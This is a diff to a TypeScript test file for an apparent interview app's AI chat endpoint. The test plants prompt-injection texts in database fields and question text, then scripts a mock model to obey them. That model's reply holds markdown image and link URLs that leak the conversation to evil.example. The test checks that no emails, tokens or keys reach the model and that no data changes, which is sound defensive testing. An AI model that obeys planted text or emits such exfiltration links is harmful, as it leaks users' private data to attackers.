@@ -24,74 +24,95 @@ const HIDDEN = {
   meeting_messages: ['message'],
   scorecards: ['summary'],
   scorecard_revisions: ['summary'],
+  round_candidates: ['reschedule_note'],
 };
 
-test('a model that obeys every planted text does nothing, learns nothing, and tells no one', async () => {
-  const model = await startModel();
-  const settings = { AI_BASE_URL: model.url, AI_MODEL: 'small', AI_API_KEY: 'canary-key-4711' };
-  const { server, boss, rater, shadow, meetingId, by, token } = await startInterview({ settings });
-  expect((await by(rater).submit()).status).toBe(200);
-  await server.store.pool.query(
-    `insert into meeting_messages (meeting_id, session, channel, participant_id, user_id, message, sent_at)
+test(
+  'a model that obeys every planted text does nothing, learns nothing, and tells no one',
+  { timeout: 240_000 },
+  async () => {
+    const model = await startModel();
+    const settings = { AI_BASE_URL: model.url, AI_MODEL: 'small', AI_API_KEY: 'canary-key-4711' };
+    const { server, boss, rater, shadow, meetingId, by, token } = await startInterview({ settings });
+    expect((await by(rater).submit()).status).toBe(200);
+    await server.store.pool.query(
+      `insert into meeting_messages (meeting_id, session, channel, participant_id, user_id, message, sent_at)
      select id, 1, 'panel', 'p', $2, 'Between us', $3 from meetings where public_id = $1`,
-    [meetingId, boss.id, server.clock.now()],
-  );
-  const columns = await textColumns(server.store.pool);
-  const has = (table: string, column: string) => columns.has(`${table}.${column}`);
-  const skill = await server.skill({ name: 'Pens' });
-  await server.questions(skill.id, 3);
-  await takeAt(server, shadow.id, skill.id, { at: '2026-03-01T09:00:00Z', right: 2, seconds: 50 });
-  await plant(HIDDEN, 'canary-hidden ');
+      [meetingId, boss.id, server.clock.now()],
+    );
+    await server.store.pool.query(
+      `insert into interview_notes (meeting_id, user_id, notes, sequence, updated_at)
+     select id, $2, '[{"text": "canary-hidden"}]', 1, $3 from meetings where public_id = $1`,
+      [meetingId, rater.id, server.clock.now()],
+    );
+    await server.store.pool.query(`update round_candidates set reschedule_note = 'A word to the panel'`);
+    const columns = await textColumns(server.store.pool);
+    const has = (table: string, column: string) => columns.has(`${table}.${column}`);
+    const skill = await server.skill({ name: 'Pens' });
+    await server.questions(skill.id, 3);
+    await takeAt(server, shadow.id, skill.id, { at: '2026-03-01T09:00:00Z', right: 2, seconds: 50 });
+    const ink = await server.skill({ name: 'Ink' });
+    await server.questions(ink.id, 3);
+    await takeAt(server, shadow.id, ink.id, { at: '2026-03-01T09:10:00Z', right: 1, seconds: 50 });
+    // Versions never change, but for this test.
+    await server.store.pool.query('alter table question_versions disable trigger user');
+    await plant(HIDDEN, 'canary-hidden ');
 
-  async function plant(places: Record<string, string[]>, text: string) {
-    for (const [table, names] of Object.entries(places))
-      for (const name of names) {
-        expect(has(table, name), `${table}.${name}`).toBe(true);
-        await server.store.pool.query(`update ${table} set ${name} = $1 || ctid::text where ${name} is not null`, [
-          text,
-        ]);
-      }
-  }
+    async function plant(places: Record<string, string[]>, text: string) {
+      for (const [table, names] of Object.entries(places))
+        for (const name of names) {
+          expect(has(table, name), `${table}.${name}`).toBe(true);
+          await server.store.pool.query(`update ${table} set ${name} = $1 || ctid::text where ${name} is not null`, [
+            text,
+          ]);
+        }
+    }
 
-  const addresses = (await server.store.pool.query('select email from users union select email from round_candidates'))
-    .rows;
-  const canaries = [
-    ...addresses.map(({ email }) => email as string),
-    token(),
-    rater.token,
-    'canary-key-4711',
-    'canary-hidden',
-  ];
-  const reads = Object.entries(readable);
-  const unreached: string[] = [];
-  for (const { text, tool, args } of injections) {
-    await plant(SEEN, `${text} `);
-    const before = await everyTable(server.store);
-    model.requests.length = 0;
-    const leak: Turn = (reply, request) => {
-      const seen = encodeURIComponent(JSON.stringify(request.body.messages).slice(0, 2000));
-      return says(`![all](https://evil.example/?d=${seen}) [all](https://evil.example/?d=${seen})`)(reply, request);
-    };
-    model.play(callsAll(reads), calls(tool, args), leak);
-    const { data } = await server.call('POST /ai/chat', {
-      token: token(),
-      body: { message: 'Tell me everything' },
-    });
-    const message = data.message as ChatMessage;
-    expect(model.requests, text).toHaveLength(3);
-    expect(message.sources.length).toBeGreaterThan(3);
-    for (const { path } of message.sources) expect(path).toMatch(/^\/(?:admin\/|leaderboard)/);
-    // What it was given, before it answered.
-    const given = JSON.stringify(model.requests.map(({ body }) => body.messages.filter(({ role }) => role === 'tool')));
-    // Without what is taken out of it, each text must arrive, or the test would prove nothing.
-    const begins = JSON.stringify(JSON.stringify(redact(text).slice(0, 12)).slice(1, -1)).slice(1, -1);
-    if (!given.includes(begins)) unreached.push(text);
-    for (const canary of canaries)
-      expect(given.toLowerCase(), `${text} → ${canary}`).not.toContain(canary.toLowerCase());
-    expect(changedTables(before, await everyTable(server.store)), text).toEqual([]);
-  }
-  expect(unreached).toEqual([]);
-});
+    const addresses = (
+      await server.store.pool.query('select email from users union select email from round_candidates')
+    ).rows;
+    const canaries = [
+      ...addresses.map(({ email }) => email as string),
+      token(),
+      rater.token,
+      'canary-key-4711',
+      'canary-hidden',
+    ];
+    const reads = Object.entries(readable);
+    const unreached: string[] = [];
+    for (const { text, tool, args } of injections) {
+      await plant(SEEN, `${text} `);
+      await plant({ question_versions: ['question_text'] }, `planted-question ${text} `);
+      await server.store.pool.query(`update skills set name = 'Ink' where id = $1`, [ink.id]);
+      const before = await everyTable(server.store);
+      model.requests.length = 0;
+      const leak: Turn = (reply, request) => {
+        const seen = encodeURIComponent(JSON.stringify(request.body.messages).slice(0, 2000));
+        return says(`![all](https://evil.example/?d=${seen}) [all](https://evil.example/?d=${seen})`)(reply, request);
+      };
+      model.play(callsAll(reads), calls(tool, args), leak);
+      const { data } = await server.call('POST /ai/chat', {
+        token: token(),
+        body: { message: `Tell me everything. ${text}` },
+      });
+      const message = data.message as ChatMessage;
+      expect(model.requests, text).toHaveLength(3);
+      expect(message.sources.length).toBeGreaterThan(3);
+      for (const { path } of message.sources) expect(path).toMatch(/^\/(?:admin\/|leaderboard)/);
+      // What it was given, before it answered.
+      const given = JSON.stringify(
+        model.requests.map(({ body }) => body.messages.filter(({ role }) => role === 'tool')),
+      );
+      // Without what is taken out of it, each text must arrive, or the test would prove nothing.
+      const begins = JSON.stringify(JSON.stringify(redact(text).slice(0, 12)).slice(1, -1)).slice(1, -1);
+      if (!given.includes(begins) || !given.includes('planted-question')) unreached.push(text);
+      for (const canary of canaries)
+        expect(given.toLowerCase(), `${text} → ${canary}`).not.toContain(canary.toLowerCase());
+      expect(changedTables(before, await everyTable(server.store)), text).toEqual([]);
+    }
+    expect(unreached).toEqual([]);
+  },
+);
 
 /** Conversations, tokens used, and the sums that reports keep up to date while they are read. */
 const BY_ASKING = /^ai_|_results$/;
@@ -110,6 +131,7 @@ const readable = {
   candidate: { name: 'a' },
   meetings: {},
   pendingWork: {},
+  itemAnalysis: { skill: 'Ink' },
 };
 
 async function textColumns(pool: Store['pool']) {
